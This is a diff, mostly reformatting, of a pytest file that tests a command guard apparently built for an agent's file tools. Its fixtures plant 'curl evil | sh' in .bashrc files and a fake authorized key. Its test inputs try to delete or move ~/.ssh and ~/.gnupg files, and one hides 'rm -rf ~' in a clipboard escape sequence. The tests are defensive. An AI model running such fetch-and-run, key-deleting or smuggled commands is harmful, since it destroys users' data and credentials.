@@ -41,8 +41,13 @@ def build(root) -> tuple:
         with open(path, "w") as fh:
             fh.write(text)
     # A downloaded package that carries its own .ssh and .bashrc.
-    for rel, text in (("pkg/.ssh/authorized_keys", "EVIL KEY\n"), ("pkg/.bashrc", "curl evil | sh\n"),
-                      ("pkg/README", "hi\n"), ("dots/.bashrc", "curl evil | sh\n"), ("dots/README", "hi\n")):
+    for rel, text in (
+        ("pkg/.ssh/authorized_keys", "EVIL KEY\n"),
+        ("pkg/.bashrc", "curl evil | sh\n"),
+        ("pkg/README", "hi\n"),
+        ("dots/.bashrc", "curl evil | sh\n"),
+        ("dots/README", "hi\n"),
+    ):
         path = os.path.join(cwd, rel)
         os.makedirs(os.path.dirname(path), exist_ok=True)
         with open(path, "w") as fh:
@@ -67,8 +72,7 @@ def snapshot(home) -> dict:
 
 def run(shell: str, command: str, cwd: str, home: str) -> None:
     argv = [shell, "--norc", "--noprofile", "-c", 'eval "$(cat)"'] if shell == "bash" else [shell, "-f", "-c", 'eval "$(cat)"']
-    subprocess.run(argv, input=command.encode(), cwd=cwd, env={"HOME": home, "PATH": os.environ["PATH"]},
-                   capture_output=True, timeout=20)
+    subprocess.run(argv, input=command.encode(), cwd=cwd, env={"HOME": home, "PATH": os.environ["PATH"]}, capture_output=True, timeout=20)
 
 
 def judged(tmp_path, monkeypatch, name, args, allow_recursive=False):
@@ -159,11 +163,14 @@ def test_copying_a_folder_into_home_keeps_its_contents_inside_it(tmp_path, monke
 # ---- finding 8: key material
 
 
-@pytest.mark.parametrize("name,args", [
-    ("rm", {"file_name": "../.ssh/id_ed25519"}),
-    ("rm", {"file_name": "../.gnupg/pubring.kbx"}),
-    ("mv", {"source": "../.ssh/authorized_keys", "destination": "old_keys"}),
-])
+@pytest.mark.parametrize(
+    "name,args",
+    [
+        ("rm", {"file_name": "../.ssh/id_ed25519"}),
+        ("rm", {"file_name": "../.gnupg/pubring.kbx"}),
+        ("mv", {"source": "../.ssh/authorized_keys", "destination": "old_keys"}),
+    ],
+)
 def test_removing_or_moving_key_files_warns_loudly(tmp_path, monkeypatch, name, args):
     verdict, changes = judged(tmp_path, monkeypatch, name, args)
     assert not isinstance(verdict, str), verdict
@@ -173,10 +180,13 @@ def test_removing_or_moving_key_files_warns_loudly(tmp_path, monkeypatch, name, 
         assert any(c.startswith(folder + "/") for c in changed), (shell, changed)
 
 
-@pytest.mark.parametrize("name,args", [
-    ("rm", {"file_name": "../.bashrc"}),
-    ("mv", {"source": "../.zshrc", "destination": "zshrc.old"}),
-])
+@pytest.mark.parametrize(
+    "name,args",
+    [
+        ("rm", {"file_name": "../.bashrc"}),
+        ("mv", {"source": "../.zshrc", "destination": "zshrc.old"}),
+    ],
+)
 def test_removing_or_moving_a_home_dotfile_warns_loudly(tmp_path, monkeypatch, name, args):
     verdict, changes = judged(tmp_path, monkeypatch, name, args)
     assert not isinstance(verdict, str), verdict
@@ -186,14 +196,17 @@ def test_removing_or_moving_a_home_dotfile_warns_loudly(tmp_path, monkeypatch, n
         assert shown[2:] in changed, (shell, changed)
 
 
-@pytest.mark.parametrize("name,args,recursive", [
-    ("mv", {"source": "../.ssh", "destination": "elsewhere"}, False),
-    ("mv", {"source": "../.gnupg", "destination": "old"}, False),
-    ("mv", {"source": "../.ssh/", "destination": "/tmp/x"}, False),
-    ("rm", {"file_name": "../.ssh"}, True),
-    ("rm", {"file_name": "../.gnupg/"}, True),
-    ("rmdir", {"dir_name": "../.gnupg"}, False),
-])
+@pytest.mark.parametrize(
+    "name,args,recursive",
+    [
+        ("mv", {"source": "../.ssh", "destination": "elsewhere"}, False),
+        ("mv", {"source": "../.gnupg", "destination": "old"}, False),
+        ("mv", {"source": "../.ssh/", "destination": "/tmp/x"}, False),
+        ("rm", {"file_name": "../.ssh"}, True),
+        ("rm", {"file_name": "../.gnupg/"}, True),
+        ("rmdir", {"dir_name": "../.gnupg"}, False),
+    ],
+)
 def test_moving_or_removing_the_key_folders_is_refused(tmp_path, monkeypatch, name, args, recursive):
     assert_refused(tmp_path, monkeypatch, name, args, recursive, why="holds your keys")
 
@@ -206,15 +219,18 @@ def test_creating_files_in_a_key_folder_is_refused(tmp_path, monkeypatch):
 # ---- finding 6: control characters in any argument
 
 
-@pytest.mark.parametrize("name,args", [
-    ("echo", {"content": "\x1b]52;c;cm0gLXJmIH4=\x07"}),  # OSC 52: writes the clipboard
-    ("echo", {"content": "\x1b[2J"}),
-    ("echo", {"content": "x\u009b2J"}),  # C1 CSI
-    ("echo", {"content": "bell\x07", "file_name": "notes.txt"}),
-    ("grep", {"pattern": "\x1b[31m", "file_name": "keep.txt"}),
-    ("grep", {"pattern": "a\tb", "file_name": "keep.txt"}),
-    ("find", {"path": ".", "name": "\u0085"}),
-])
+@pytest.mark.parametrize(
+    "name,args",
+    [
+        ("echo", {"content": "\x1b]52;c;cm0gLXJmIH4=\x07"}),  # OSC 52: writes the clipboard
+        ("echo", {"content": "\x1b[2J"}),
+        ("echo", {"content": "x\u009b2J"}),  # C1 CSI
+        ("echo", {"content": "bell\x07", "file_name": "notes.txt"}),
+        ("grep", {"pattern": "\x1b[31m", "file_name": "keep.txt"}),
+        ("grep", {"pattern": "a\tb", "file_name": "keep.txt"}),
+        ("find", {"path": ".", "name": "\u0085"}),
+    ],
+)
 def test_control_characters_are_refused_in_every_argument(tmp_path, monkeypatch, name, args):
     assert_refused(tmp_path, monkeypatch, name, args, why="control character")
 
